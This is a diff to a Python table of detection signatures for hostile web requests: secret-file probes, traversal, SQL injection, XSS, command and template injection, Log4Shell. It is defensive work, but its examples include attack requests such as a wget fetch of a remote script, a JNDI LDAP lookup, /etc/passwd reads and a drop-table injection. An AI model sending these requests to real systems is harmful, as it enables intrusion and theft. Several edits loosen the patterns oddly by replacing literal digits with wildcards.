@@ -25,8 +25,9 @@ from __future__ import absolute_import, division, print_function
 __metaclass__ = type
 
 import collections
+import re
 
-Signature = collections.namedtuple("Signature", "id category answered weak where literals pattern why example near_miss")
+Signature = collections.namedtuple("Signature", "id category answered weak where literals pattern digits why example near_miss")
 
 CATEGORIES = collections.OrderedDict((
     ("secrets", "secrets and dotfiles"),
@@ -47,7 +48,7 @@ CATEGORIES = collections.OrderedDict((
 ))
 
 # Name and extension of a script that a Rails application does not have.
-_SCRIPT = br"\.(?:php[3-8]?|phtml|phar|aspx?|ashx|asmx|ascx|axd|jspx?|jspa|jhtml|cfm|cgi|pl|do|action|dll|exe)"
+_SCRIPT = br"\.(?:php\d?|phtml|phar|aspx?|ashx|asmx|ascx|axd|jspx?|jspa|jhtml|cfm|cgi|pl|do|action|dll|exe)"
 _CONFIG = br"\.(?:ya?ml|json|xml|ini|toml|conf|cfg|env|txt|py|rb|pl|properties|asp|php|inc|nu|fish)"
 
 _TABLE = (
@@ -59,7 +60,7 @@ _TABLE = (
      br"/\.(?!well-known(?:/|$)|git|svn|hg|bzr|cvs|bundle|ruby|rspec|rubocop|env)[a-z_$][\w.+~-]*",
      "hidden files hold keys, histories and settings of tools", "GET /.aws/credentials", "GET /.well-known/acme-challenge/x"),
     ("private_key", "secrets", "critical", "path", (b"id_rsa", b"id_dsa", b"id_ecdsa", b"id_ed", b"pem", b"key", b"pfx", b"ppk", b"jks", b"kdbx"),
-     br"/(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:\.\w{1,10}){0,2}|[\w.-]*(?:private|server|ssl|domain|host|site|www|privkey|key|localhost|cert)[\w.-]*\.(?:pem|key|pfx|ppk|jks)|[\w.-]+\.kdbx)$",
+     br"/(?:id_(?:rsa|dsa|ecdsa|ed\d{5})(?:\.\w{1,10}){0,2}|[\w.-]*(?:private|server|ssl|domain|host|site|www|privkey|key|localhost|cert)[\w.-]*\.(?:pem|key|pfx|ppk|jks)|[\w.-]+\.kdbx)$",
      "private keys", "GET /ssl/private.key", "GET /docs/public.keynote"),
     ("password_file", "secrets", "critical", "path",
      (b"htpasswd", b"htaccess", b"htdigest", b"shadow", b"passwd", b"passwords", b"password", b"pwd", b"initial_root_password", b"wallet",
@@ -86,15 +87,15 @@ _TABLE = (
      br"/(?:package(?:s|-lock)?\.json|composer\.(?:json|lock|phar)|yarn\.lock|webpack\.[\w.]+|(?:grunt|gulp)file\.\w+|npm-shrinkwrap\.json|bower\.json|dockerfile(?:[.-][\w.-]*)?|phpcs\.xml(?:\.dist)?|phpunit\.xml(?:\.dist)?|pyproject\.toml|pytest\.ini|cargo\.(?:toml|lock)|go\.(?:mod|sum)|build\.zig(?:\.\w+)?|coverage\.xml|(?:ftp-sync|sftp)(?:[.-][\w-]*)?\.json|makefile|vagrantfile|jenkinsfile|requirements\.txt|pipfile(?:\.lock)?|poetry\.lock|tsconfig\.json|desktop\.ini|thumbs\.db|ws_ftp\.\w+|weblogic\.xml|[\w.-]*\.tfstate(?:\.\w+)?|terraform\.tfvars|gitlab\.rb|gitlab_config_\w*|fish_variables|ldap-authentication-report\.csv|serverless\.ya?ml|aws\.ya?ml)$",
      "files of a build that tell versions and names", "GET /composer.lock", "GET /packages/12"),
     ("server_ini", "secrets", "critical", "path", (b"ini", b"cnf", b"conf", b"sslvpn_websession", b"blockcypher"),
-     br"/(?:(?:php|boot|system|win|\.?user)\.ini|\.?my\.cnf|mysql(?:d|dump)?\.cnf|debian\.cnf|(?:nginx|httpd|apache2?)\.conf|sslvpn_websession|blockcypher\.log)$",
+     br"/(?:(?:php|boot|system|win|\.?user)\.ini|\.?my\.cnf|mysql(?:d|dump)?\.cnf|debian\.cnf|(?:nginx|httpd|apache\d?)\.conf|sslvpn_websession|blockcypher\.log)$",
      "settings of the server's own services", "GET /my.cnf", "GET /winter.ini/x"),
     ("log_file", "secrets", "critical", "path", (b"log", b"logs"),
-     br"/(?:(?:access|error|errors|debug|php_errors?|security|laravel|server|application|app|system|install|update|deploy|mysql|mysqld|nginx|apache|dump|npm-debug|yarn-(?:debug|error)|rsync|pm2|catalina|auth|mail|cron|ftp|sql|trace|wp-errors?|storage/logs/[\w.-]+|security_debug)[\w-]{0,20}\.log(?:\.(?:\d+|gz|old|txt|bak))*|logs?/[\w.-]+\.(?:log|txt)(?:\.\w+)?)$",
+     br"/(?:(?:access|error|errors|debug|php_errors?|security|laravel|server|application|app|system|install|update|deploy|mysql|mysqld|nginx|apache|dump|npm-debug|yarn-(?:debug|error)|rsync|pm\d|catalina|auth|mail|cron|ftp|sql|trace|wp-errors?|storage/logs/[\w.-]+|security_debug)[\w-]{0,20}\.log(?:\.(?:\d+|gz|old|txt|bak))*|logs?/[\w.-]+\.(?:log|txt)(?:\.\w+)?)$",
      "logs hold addresses, sessions and traces", "GET /storage/logs/laravel.log", "GET /changelog"),
     ("process_files", "secrets", "critical", "path",
      (b"proc", b"sys", b"anaconda", b"miniconda", b"perl", b"openvpn", b"wg", b"nbproject", b"__pycache__", b"node_modules", b"inf", b"fd",
       b"/@"),
-     br"^/(?:proc(?:/|$)|sys/(?:block|bus|class|dev|devices|firmware|fs|hypervisor|kernel|module|power|$)|@(?:fs|id)/|(?:mini|ana)conda3/|perl/(?:lib|bin)|openvpn/|wg-clients/|nbproject/|dev/fd/)|/(?:__pycache__|node_modules/\.(?:bin|cache)|(?:meta|web)-inf)(?:/|$)",
+     br"^/(?:proc(?:/|$)|sys/(?:block|bus|class|dev|devices|firmware|fs|hypervisor|kernel|module|power|$)|@(?:fs|id)/|(?:mini|ana)conda\d/|perl/(?:lib|bin)|openvpn/|wg-clients/|nbproject/|dev/fd/)|/(?:__pycache__|node_modules/\.(?:bin|cache)|(?:meta|web)-inf)(?:/|$)",
      "directories of the system, of tools and of Java applications", "GET /web-inf/web.xml", "GET /products/process"),
     # ---- version control, backups, dumps
     ("vcs", "vcs_backup", "critical", "path", (b"cvs", b"_darcs", b"/."),
@@ -106,10 +107,10 @@ _TABLE = (
      br"[\w)]\.(?:bak|backup|old|orig(?:inal)?|sav|save|sw[op]|copy|bkp|bk|tmp|inc|dist|sample)(?:\d{1,3}|[.~]\w{0,10})?$|\.\w+~$|/~\w*\.\w+$",
      "a copy of a script is sent as text", "GET /index.php.bak", "GET /bakery"),
     ("sql_dump", "vcs_backup", "critical", "path", (b"sql", b"dump", b"dmp", b"mdb", b"sqlite", b"db", b"pgdump", b"myd", b"frm", b"rdb"),
-     br"\.(?:sql|dump|dmp|mdb|sqlite3?|db3?|pgdump|myd|frm|rdb)(?:[-.](?:gz|bz2|xz|zip|7z|rar|tar|tgz|zst|bak|old|pea|lz4?|txt|\w{1,4}))*$(?<!/thumbs\.db)",
+     br"\.(?:sql|dump|dmp|mdb|sqlite\d?|db\d?|pgdump|myd|frm|rdb)(?:[-.](?:gz|bz\d|xz|zip|\dz|rar|tar|tgz|zst|bak|old|pea|lz\d?|txt|\w{1,4}))*$(?<!/thumbs\.db)",
      "a dump of a database", "GET /backup/db.sql.gz", "GET /mysql-tuning"),
     ("site_archive", "vcs_backup", "critical", "path", (b"zip", b"rar", b"7z", b"tar", b"tgz", b"gz", b"bz", b"tbz", b"xz", b"war", b"zst"),
-     br"^/(?:[\w.-]+/)?(?:[\w-]*(?:back-?up|bak|bckup)[\w-]*|dump|database|db|sql|mysql|www|wwwroot|public_html|htdocs|html|htdocs|httpdocs|sites?|website|web|webroot|home|root|source|src|code|server|project|old|archive|prod(?:uction)?|staging|dev|full|domain|admin|portal|20[012]\d)(?:[._-][\w.-]{0,20})?\.(?:zip|rar|7z|tar|tgz|t?bz2?|(?:tar\.)?(?:gz|bz2|xz|zst)|war)$",
+     br"^/(?:[\w.-]+/)?(?:[\w-]*(?:back-?up|bak|bckup)[\w-]*|dump|database|db|sql|mysql|www|wwwroot|public_html|htdocs|html|htdocs|httpdocs|sites?|website|web|webroot|home|root|source|src|code|server|project|old|archive|prod(?:uction)?|staging|dev|full|domain|admin|portal|\d{4})(?:[._-][\w.-]{0,20})?\.(?:zip|rar|\dz|tar|tgz|t?bz\d?|(?:tar\.)?(?:gz|bz\d|xz|zst)|war)$",
      "an archive of the site at a guessed name", "GET /backup.zip", "GET /downloads/manual.zip"),
     # ---- Rails and Ruby
     ("rails_key", "rails", "critical", "path", (b"master", b"credentials", b"secrets", b"secret_token", b"secret_key_base", b"user_secrets"),
@@ -118,8 +119,8 @@ _TABLE = (
     ("rails_config", "rails", "critical", "path", (b"database", b"config"),
      br"/database\.ya?ml|/config/(?:application|boot|environment|environments/[\w-]+|initializers/[\w-]+|routes|puma|unicorn|sidekiq|deploy(?:/[\w-]+)?|storage|cable|mongoid|redis|newrelic|locales/[\w-]+|webpacker|cache|queue)\.(?:rb|ya?ml)",
      "settings of a Rails application", "GET /config/database.yml", "GET /docs/config/routes"),
-    ("rails_info", "rails", "critical", "path", (b"rails",),
-     br"^/(?:[\w-]+/)?rails/(?:info|mailers|conductor|db|console|actions)(?:/|$)",
+    ("rails_info", "rails", "critical", "path", (b"info", b"mailers", b"conductor", b"console"),
+     br"^/(?:[\w-]+/)?rails/(?:info|mailers|conductor|console)(?:/|$)",
      "the pages of the development mode", "GET /rails/info/routes", "GET /rails/active_storage/blobs/redirect/x/info"),
     ("rails_log", "rails", "critical", "path", (b"log",),
      br"/log/(?:production|development|staging|test|puma[\w.]*|unicorn[\w.]*|sidekiq|newrelic_agent|delayed_job|cron|whenever|nginx\.\w+|bullet)\.log",
@@ -154,7 +155,7 @@ _TABLE = (
     # ---- traversal and inclusion
     ("lfi_file", "traversal", "critical", "any",
      (b"etc", b"proc", b"windows", b"winnt", b"inetpub", b"ini", b"inf", b"var", b"cmdb", b"root", b"bin"),
-     br"(?:^|[/=:?&\s\x00.])etc/(?:passwd|shadow|group|hosts|issue|hostname|motd|fstab|crontab|sudoers|my\.cnf|mysql|apache2?|httpd|nginx|php|ssh|ssl|security|npasswd|master\.passwd|resolv|rc\.|init|vsftpd|proftpd|samba|pki|opt)|(?:^|[/=:])proc/(?:self|\d{1,6}|version|cpuinfo|meminfo|mounts|net|cmdline|sched_debug)(?:/|$|\x00|&|\s)|\bwindows/(?:win\.ini|system32|system\.ini|php\.ini|repair|debug)|(?:[a-z]:|[/=])/?(?:winnt|inetpub)/|(?:^|[/=])(?:boot|win|system)\.ini(?:$|[&\x00\s%])|\.\./[^&]*\bweb-inf/|\bvar/log/(?:apache|httpd|nginx|auth|messages|syslog|mail|secure|vsftpd|lastlog|wtmp)|\bdev/cmdb/sslvpn|\broot/\.(?:ssh|bash|my)|/bin/(?:ba|z|k|c|da)?sh(?:$|[\s?;&])",
+     br"(?:^|[/=:?&\s\x00.])etc/(?:passwd|shadow|group|hosts|issue|hostname|motd|fstab|crontab|sudoers|my\.cnf|mysql|apache\d?|httpd|nginx|php|ssh|ssl|security|npasswd|master\.passwd|resolv|rc\.|init|vsftpd|proftpd|samba|pki|opt)|(?:^|[/=:])proc/(?:self|\d{1,6}|version|cpuinfo|meminfo|mounts|net|cmdline|sched_debug)(?:/|$|\x00|&|\s)|\bwindows/(?:win\.ini|system\d\d|system\.ini|php\.ini|repair|debug)|(?:[a-z]:|[/=])/?(?:winnt|inetpub)/|(?:^|[/=])(?:boot|win|system)\.ini(?:$|[&\x00\s%])|\.\./[^&]*\bweb-inf/|\bvar/log/(?:apache|httpd|nginx|auth|messages|syslog|mail|secure|vsftpd|lastlog|wtmp)|\bdev/cmdb/sslvpn|\broot/\.(?:ssh|bash|my)|/bin/(?:ba|z|k|c|da)?sh(?:$|[\s?;&])",
      "files that every system has at a known place", "GET /download?file=/etc/passwd", "GET /blog/2018/02/etc-passwd"),
     ("dotdot_query", "traversal", "high", "query", (b"../", b"..;"),
      br"(?:^|[=/&:,\s'\"\x00])\.{2,3}[/;].{0,2000}?(?:/|\.\w|\w)|\.\./\.\./",
@@ -164,10 +165,11 @@ _TABLE = (
      "a path that leaves the document root; the web server normalises it", "GET /images/../../x", "GET /a..b/c"),
     ("wrapper", "traversal", "critical", "target",
      (b"php", b"expect", b"data", b"phar", b"zip", b"glob", b"zlib", b"compress", b"file", b"gopher", b"dict", b"netdoc", b"ldap", b"ldaps"),
-     br"\b(?:php|expect|phar|zip|glob|compress\.\w+|zlib)://?(?:filter|input|stdin|output|memory|temp|\w)|\bdata:(?://)?text/(?:plain|html);base64|(?:^|[=,(:\s])(?:file:/+(?:etc|proc|root|home|var|dev|windows|[a-z]:/(?:windows|boot))|gopher://|dict://|netdoc:/|ldaps?://\d)",
+     br"\b(?:php|expect|phar|zip|glob|compress\.\w+|zlib)://?(?:filter|input|stdin|output|memory|temp|\w)|\bdata:(?://)?text/(?:plain|html);base\d\d|(?:^|[=,(:\s])(?:file:/+(?:etc|proc|root|home|var|dev|windows|[a-z]:/(?:windows|boot))|gopher://|dict://|netdoc:/|ldaps?://\d)",
      "a parameter that opens something else than a file", "GET /?page=php://filter/convert.base64-encode/resource=index", "GET /learn/php-filters"),
-    ("remote_include", "traversal", "high", "query", (b"://",),
-     br"=(?:https?|ftps?)://[^&\s]{1,300}\.(?:txt|php|gif|jpe?g|dat|inc|cmd|asp|htm)\?{1,3}(?:&|$|\x00)|=(?:https?|ftps?)://[^&\s/]{1,200}/(?:shell|cmd|c99|r57|evil|id|fx29id|echo)\d?\.(?:txt|php|gif)",
+    ("remote_include", "traversal", "high", "query",
+     (b"shell", b"cmd", b"c99", b"r57", b"evil", b"id", b"fx29id", b"echo", b"?&", b"? ", b"??", b"?\x00"),
+     br"=(?:https?|ftps?)://[^&\s]{1,300}\.(?:txt|php|gif|jpe?g|dat|inc|cmd|asp|htm)\?{1,3}(?:[&\x00]|\s|$)|=(?:https?|ftps?)://[^&\s/]{1,200}/(?:shell|cmd|c99|r57|evil|id|fx29id|echo)\d?\.(?:txt|php|gif)",
      "a script from another server", "GET /start.php?lang=http://cirt.net/rfiinc.txt?", "GET /login?return_to=http://shop.example.com/cart"),
     ("ssrf_metadata", "traversal", "critical", "target", (b"metadata", b"meta", b"169.254.169.254"),
      br"169\.254\.169\.254|\bmetadata\.google\.internal|100\.100\.100\.200/latest|latest/\bmeta-data\b",
@@ -197,7 +199,7 @@ _TABLE = (
       b"floor", b"exp", b"uuid_short", b"crypt_key", b"convert", b"cast", b"count", b"row", b"regexp_", b"regexp_substring", b"regexp_like",
       b"regexp_replace", b"xp_cmdshell", b"xp_dirtree", b"sp_executesql", b"sp_password", b"sp_oacreate", b"utl_inaddr", b"utl_http",
       b"utl_file", b"dbms_pipe", b"dbms_lock", b"dbms_utility", b"dbms_xslprocessor", b"dbms_ldap", b"gtid_subset", b"gtid_subtract"),
-     br"\b(?:pg_)?sleep\s*\(\s*(?:\d+(?:\.\d+)?\s*(?:[),*+/-]|$)|__|\(|'|@|select)|\bbenchmark\s*\(\s*\d|\bwaitfor\s+(?:delay|time)\b|\brandomblob\s*\(|\bextractvalue\s*\(|\bupdatexml\s*\(|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|\bxp_(?:cmdshell|dirtree)\b|\bsp_(?:executesql|password|oacreate)\b|\bdbms_(?:pipe|lock|utility|xslprocessor|ldap)\b|\butl_(?:inaddr|http|file)\b|\bgenerate_series\s*\(|\bprocedure\s+analyse\b|\bmake_set\s*\(|\belt\s*\(\s*[\d(]|\bgtid_sub(?:set|tract)\s*\(|\bjson_keys\s*\(|\bctxsys\.|\bgroup_concat\s*\(|\bconcat(?:_ws)?\s*\(\s*(?:0x|char|'|\"|\(|@@|\d|md5|user|database|version|chr|\w+\s*,)|\bin\s+boolean\s+mode\s*\)|\b(?:n?char|chr)\s*\(\s*\d{1,4}\s*(?:,|\)\s*(?:\|\||\+|\s|,|&|=))|\biif\s*\(\s*\d|\b(?:ascii|ord|mid|substr(?:ing)?)\s*\(\s*(?:\(|mid|substr|select|user|database|version|@@|length|lower|group)|\bfloor\s*\(\s*rand|\bexp\s*\(\s*~|\buuid_short\s*\(|\bcrypt_key\s*\(|\b(?:convert|cast)\s*\(\s*(?:int|\(|char|concat|chr|select|@@|user|database|version|\w+\s+as\s)|\bcount\s*\(\s*\*\s*\)|\brow\s*\(\s*\d+\s*,\s*\d+\s*\)\s*[<>]|\bregexp_(?:substring|like|replace)\s*\(",
+     br"\b(?:pg_)?sleep\s*\(\s*(?:\d+(?:\.\d+)?\s*(?:[),*+/-]|$)|__|\(|'|@|select)|\bbenchmark\s*\(\s*\d|\bwaitfor\s+(?:delay|time)\b|\brandomblob\s*\(|\bextractvalue\s*\(|\bupdatexml\s*\(|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|\bxp_(?:cmdshell|dirtree)\b|\bsp_(?:executesql|password|oacreate)\b|\bdbms_(?:pipe|lock|utility|xslprocessor|ldap)\b|\butl_(?:inaddr|http|file)\b|\bgenerate_series\s*\(|\bprocedure\s+analyse\b|\bmake_set\s*\(|\belt\s*\(\s*[\d(]|\bgtid_sub(?:set|tract)\s*\(|\bjson_keys\s*\(|\bctxsys\.|\bgroup_concat\s*\(|\bconcat(?:_ws)?\s*\(\s*(?:\dx|char|'|\"|\(|@@|\d|md\d|user|database|version|chr|\w+\s*,)|\bin\s+boolean\s+mode\s*\)|\b(?:n?char|chr)\s*\(\s*\d{1,4}\s*(?:,|\)\s*(?:\|\||\+|\s|,|&|=))|\biif\s*\(\s*\d|\b(?:ascii|ord|mid|substr(?:ing)?)\s*\(\s*(?:\(|mid|substr|select|user|database|version|@@|length|lower|group)|\bfloor\s*\(\s*rand|\bexp\s*\(\s*~|\buuid_short\s*\(|\bcrypt_key\s*\(|\b(?:convert|cast)\s*\(\s*(?:int|\(|char|concat|chr|select|@@|user|database|version|\w+\s+as\s)|\bcount\s*\(\s*\*\s*\)|\brow\s*\(\s*\d+\s*,\s*\d+\s*\)\s*[<>]|\bregexp_(?:substring|like|replace)\s*\(",
      "functions that wait, read files or carry data out", "GET /items?id=1 and sleep(5)", "GET /search?q=sleep+(8+hours)"),
     ("sql_schema", "sqli", "medium", "target",
      (b"information_schema", b"sysobjects", b"syscolumns", b"sysusers", b"sysibm", b"sysmaster", b"sysdatabases", b"rdb", b"pg_catalog",
@@ -211,7 +213,7 @@ _TABLE = (
      "a statement that follows the query's own", "GET /items?id=1;drop table users", "GET /search?q=drop+earring"),
     # ---- cross-site scripting
     ("xss_tag", "xss", "medium", "any", (b"<",),
-     br"<[\s/]{0,5}(?:script|svg|iframe|object|embed|math|marquee|isindex|meta|base|bgsound|layer|ilayer|applet|frameset|frame|xml|xss|link|style|img|image|video|audio|body|input|form|details|textarea|keygen|select|button|plaintext|noscript|template|title|html|a\s|div\s|b\s|p\s|x\s|h1|br|table\s|td\s|!--|!doctype|!entity|!\[cdata|\?xml|\?import)",
+     br"<[\s/]{0,5}(?:script|svg|iframe|object|embed|math|marquee|isindex|meta|base|bgsound|layer|ilayer|applet|frameset|frame|xml|xss|link|style|img|image|video|audio|body|input|form|details|textarea|keygen|select|button|plaintext|noscript|template|title|html|a\s|div\s|b\s|p\s|x\s|h\d|br|table\s|td\s|!--|!doctype|!entity|!\[cdata|\?xml|\?import)",
      "HTML in a request", "GET /search?q=<script>alert(1)</script>", "GET /search?q=a<b"),
     ("xss_handler", "xss", "medium", "target",
      (b"onerror", b"onload", b"onclick", b"onfocus", b"onfocusin", b"onfocusout", b"onblur", b"ontoggle", b"onstart", b"onbegin", b"onend",
@@ -229,7 +231,7 @@ _TABLE = (
      (b"javascript", b"vbscript", b"livescript", b"document", b"window", b"alert", b"prompt", b"confirm", b"eval", b"settimeout", b"setinterval",
       b"atob", b"fromcharcode", b"expression", b"moz", b"srcdoc", b"data", b"constructor", b"top", b"self", b"this", b"parent", b"innerhtml",
       b"location"),
-     br"\b(?:javascript|vbscript|livescript)\s?:[^\s&=]|\bdocument\.(?:cookie|domain|write|location|body|createelement|getelement)|\bwindow(?:\.(?:location|open|name)\b|\[)|\b(?:alert|prompt|confirm|eval|settimeout|setinterval|atob)\s?(?:\(\s?[\d'\"/`a-z(]|`|&(?:lpar|\#40))(?<![a-z]\s\(y)|string\.fromcharcode\b|[:;]\s?expression\s?\(|-moz-binding|\bsrcdoc\s?=|\bdata:text/html|\.constructor\s?\(|\b(?:top|self|this|parent)\s?\[\s?['\"/]|\.innerhtml\b|\blocation\s?=\s?['\"]|\blocation\.(?:hash|href|search)\b",
+     br"\b(?:javascript|vbscript|livescript)\s?:[^\s&=]|\bdocument\.(?:cookie|domain|write|location|body|createelement|getelement)|\bwindow(?:\.(?:location|open|name)\b|\[)|\b(?:alert|prompt|confirm|eval|settimeout|setinterval|atob)\s?(?:\(\s?[\d'\"/`a-z(]|`|&lpar)|string\.fromcharcode\b|[:;]\s?expression\s?\(|-moz-binding|\bsrcdoc\s?=|\bdata:text/html|\.constructor\s?\(|\b(?:top|self|this|parent)\s?\[\s?['\"/]|\.innerhtml\b|\blocation\s?=\s?['\"]|\blocation\.(?:hash|href|search)\b",
      "JavaScript in a request", "GET /?x=javascript:alert(1)", "GET /search?q=javascript:+the+good+parts"),
     # ---- commands, code, templates
     ("command", "injection", "medium", "target", (b";", b"|", b"`", b"$(", b"&&", b"\x0b", b"\x0c"),
@@ -237,13 +239,13 @@ _TABLE = (
      br"cat\s{0,3}[/$<{.'\"~]|(?:sleep|timeout|ping)\s{1,3}(?:-\w\s?)?\d|id\s{0,3}(?:$|[;|&`)#\s])|ls\s{0,3}(?:$|-\w|/|[;|&`)#])|echo\s{0,3}[$'\"`(\d-]|echo\s+\w+\s*[|>;]|dir\s{0,3}(?:$|[a-z]:|[;|&])|type\s{1,3}\S{0,30}[/.:]|(?:ba|z|da|k|c)?sh\s{1,3}[-/<]|(?:python|perl|ruby|php|node)[\d.]{0,4}\s{1,3}-|rm\s{1,3}-|ps\s{0,3}(?:$|-|aux|[;|&])|set\s{0,3}(?:$|[;|&])|env\s{0,3}(?:$|[;|&])|ver\s{0,3}(?:$|[;|&])|pwd\s{0,3}(?:$|[;|&`])|dig\s{1,3}[\w.-]+\.|host\s{1,3}[\w.-]+\.|find\s{1,3}[/.]|touch\s{1,3}/|reg\s{1,3}query|net\s{1,3}(?:user|view|localgroup)|w\s{0,3}(?:$|[;|&])|del\s{1,3}\S)(?![\w=-]*=)",
      "a shell command behind a separator", "GET /ping?host=1.1.1.1;cat /etc/hosts", "GET /search?q=fish;chips&id=5"),
     ("command_name", "injection", "high", "any", (b"wget", b"curl", b"bin", b"cmd", b"powershell", b"cd", b"chmod", b"rm", b"busybox", b"sbin"),
-     br"\b(?:wget|curl)\b\s{1,3}(?:-{1,2}[\w-]{1,20}\s{1,3}){0,6}[\"']?(?:https?:|ftp:|\d{1,3}\.|[\w.-]{3,60}/)|(?:^|[=\s;|(`/])(?:usr/(?:local/)?)?s?bin/(?:(?:ba|z|k|c|da)?sh|cat|id|ls|ps|nc|ping|uname|wget|curl|python\d?|perl)(?:$|[\s;|&?)'\"`])|\bcmd(?:\.exe)?\s?/c\b|\bcmd\.exe\b|\bpowershell(?:\.exe)?\s{1,3}-\w|\bcd\s{1,3}/tmp\b|\bchmod\s{1,3}(?:\+x|[0-7]{3,4})\s|\brm\s{1,3}-rf\b|\bbusybox\s{1,3}\w",
+     br"\b(?:wget|curl)\b\s{1,3}(?:-{1,2}[\w-]{1,20}\s{1,3}){0,6}[\"']?(?:https?:|ftp:|\d{1,3}\.|[\w.-]{3,60}/)|(?:^|[=\s;|(`/])(?:usr/(?:local/)?)?s?bin/(?:(?:ba|z|k|c|da)?sh|cat|id|ls|ps|nc|ping|uname|wget|curl|python\d?|perl)(?:$|[\s;|&?)'\"`])|\bcmd(?:\.exe)?\s?/c\b|\bcmd\.exe\b|\bpowershell(?:\.exe)?\s{1,3}-\w|\bcd\s{1,3}/tmp\b|\bchmod\s{1,3}(?:\+x|\d{3,4})\s|\brm\s{1,3}-rf\b|\bbusybox\s{1,3}\w",
      "a program of the system", "GET /cgi-bin/x?cmd=wget http://198.51.100.1/a.sh", "GET /search?q=curl+cream"),
     ("php_code", "injection", "high", "target",
      (b"php", b"phpinfo", b"base64_decode", b"shell_exec", b"exec", b"system", b"passthru", b"popen", b"proc_open", b"pcntl_exec", b"assert",
       b"call_user_func", b"call_user_func_array", b"invokefunction", b"allow_url_include", b"auto_prepend_file", b"file_get_contents",
       b"file_put_contents", b"fwrite", b"print", b"die", b"echo", b"var_dump", b"gzinflate", b"md5", b"<?", b"$_"),
-     br"<\?(?:php|=|\s)|\bphpinfo\s{0,3}\(|\bbase64_decode\s{0,3}\(|\b(?:shell_exec|exec|system|passthru|popen|proc_open|assert|pcntl_exec)\s{0,2}\(\s{0,3}[$'\"\w]|\bcall_user_func(?:_array)?\b|\binvokefunction\b|\ballow_url_include\b|\bauto_prepend_file\b|\bfile_(?:get|put)_contents\b|\bfwrite\s?\(|\b(?:print|die|echo|var_dump)\b\s?\(?\s?(?:md5|chr|base64|\$_|sha1)\s?\(|\bgzinflate\s?\(|\$_(?:get|post|request|server|cookie|files|session|env)\b|\bmd5\s?\(\s?[\d'\"]",
+     br"<\?(?:php|=|\s)|\bphpinfo\s{0,3}\(|\bbase\d\d_decode\s{0,3}\(|\b(?:shell_exec|exec|system|passthru|popen|proc_open|assert|pcntl_exec)\s{0,2}\(\s{0,3}[$'\"\w]|\bcall_user_func(?:_array)?\b|\binvokefunction\b|\ballow_url_include\b|\bauto_prepend_file\b|\bfile_(?:get|put)_contents\b|\bfwrite\s?\(|\b(?:print|die|echo|var_dump)\b\s?\(?\s?(?:md\d|chr|base\d\d|\$_|sha\d)\s?\(|\bgzinflate\s?\(|\$_(?:get|post|request|server|cookie|files|session|env)\b|\bmd\d\s?\(\s?[\d'\"]",
      "PHP code", "GET /index.php?s=/index/think\\app/invokefunction&function=call_user_func_array", "GET /search?q=php+system"),
     ("template", "injection", "high", "any",
      (b"getruntime", b"processbuilder", b"ognl", b"java", b"classloader", b"freemarker", b"set", b"{", b"<%", b"*__class__", b"*__globals__",
@@ -251,7 +253,7 @@ _TABLE = (
      br"\{\{[-\s]{0,3}(?:\d{1,9}\s?[*+]\s?'?\d|config\b|self\b|request\.|''|\"\"|\[\]|\(\)|_self|lipsum|cycler|joiner|url_for\.|get_flashed|constructor|this\.|range\.|app\.|\$on\b|dump\()|[$#*@]\{\s{0,3}(?:\d{1,9}\s?[*+]\s?\d|t\(|@|#|script:|dns:|url:|java|new\s|class\.|\"|'|request\b|session|application|system\b|process|%x|`|ifs\b)|<%[=-]?\s{0,3}(?:\d|system|`|file|dir|io\.|exec|eval|response|runtime|%x)|__(?:class|globals|subclasses|builtins|mro|init|import|base)__|\bgetruntime\b|\bprocessbuilder\b|\bognl\b|\bjava\.lang\.|class(?:\.module)?\.classloader\b|\bfreemarker\.template|#set\s?\(\s?\$|\{%\s{0,3}(?:for|if|set|import|debug|include|raw)\b",
      "a template expression that the server would evaluate", "GET /?name={{7*7}}", "GET /images/{{photo.url}}"),
     ("header_split", "injection", "medium", "target", (b"\x0b", b"\x0c"),
-     br"[\x0b\x0c]{1,4}\s?(?:set-cookie|location|content-(?:type|length|disposition)|x-[\w-]{2,30}|http/1|refresh|link|access-control-[\w-]{2,30}|[\w-]{3,30})\s?:",
+     br"[\x0b\x0c]{1,4}\s?(?:set-cookie|location|content-(?:type|length|disposition)|x-[\w-]{2,30}|http/\d|refresh|link|access-control-[\w-]{2,30}|[\w-]{3,30})\s?:",
      "a header behind a line break", "GET /go?to=x%0d%0aset-cookie:a=b", "GET /notes?text=a%0ab"),
     ("xxe", "injection", "medium", "target", (b"<!", b"xi:include", b"<xsl:"),
      br"<!(?:entity|doctype|element|attlist)\b|\bxi:include\b|<xsl:",
@@ -264,7 +266,7 @@ _TABLE = (
      "a null byte that cuts a name", "GET /download?file=report.pdf%00.jpg", "GET /a"),
     # ---- headers and everywhere
     ("log4shell", "log4shell", "high", "any", (b"jndi", b"${"),
-     br"\$\{\s{0,3}jndi\b|\$\{[^}\x0b]{0,60}\$\{|\$\{(?:lower|upper|env|sys|main|date|ctx|base64|hostname|log4j|::|:)\s{0,3}:|\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http)",
+     br"\$\{\s{0,3}jndi\b|\$\{[^}\x0b]{0,60}\$\{|\$\{(?:lower|upper|env|sys|main|date|ctx|base\d\d|hostname|log\dj|::|:)\s{0,3}:|\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http)",
      "CVE-2021-44228", "GET /?x=${jndi:ldap://198.51.100.7/a}", "GET /images/${photo}"),
     ("shellshock", "shellshock", "high", "any", (b"()",),
      br"(?<![\w)])\(\)\s?\{\s{0,3}(?::|_|[^}]{0,60}\}?\s{0,3};|ignored)",
@@ -288,7 +290,7 @@ _TABLE = (
     ("cve_java", "cve", "critical", "path",
      (b"actuator", b"jolokia", b"solr", b"_async", b"wls", b"invoker", b"jmx", b"manager", b"axis", b"nacos", b"druid", b"geoserver",
       b"securityrealm", b"tinymce", b"webtools", b"functionrouter", b"console", b"action", b"_", b"jenkins", b"hudson", b"script", b"cluster"),
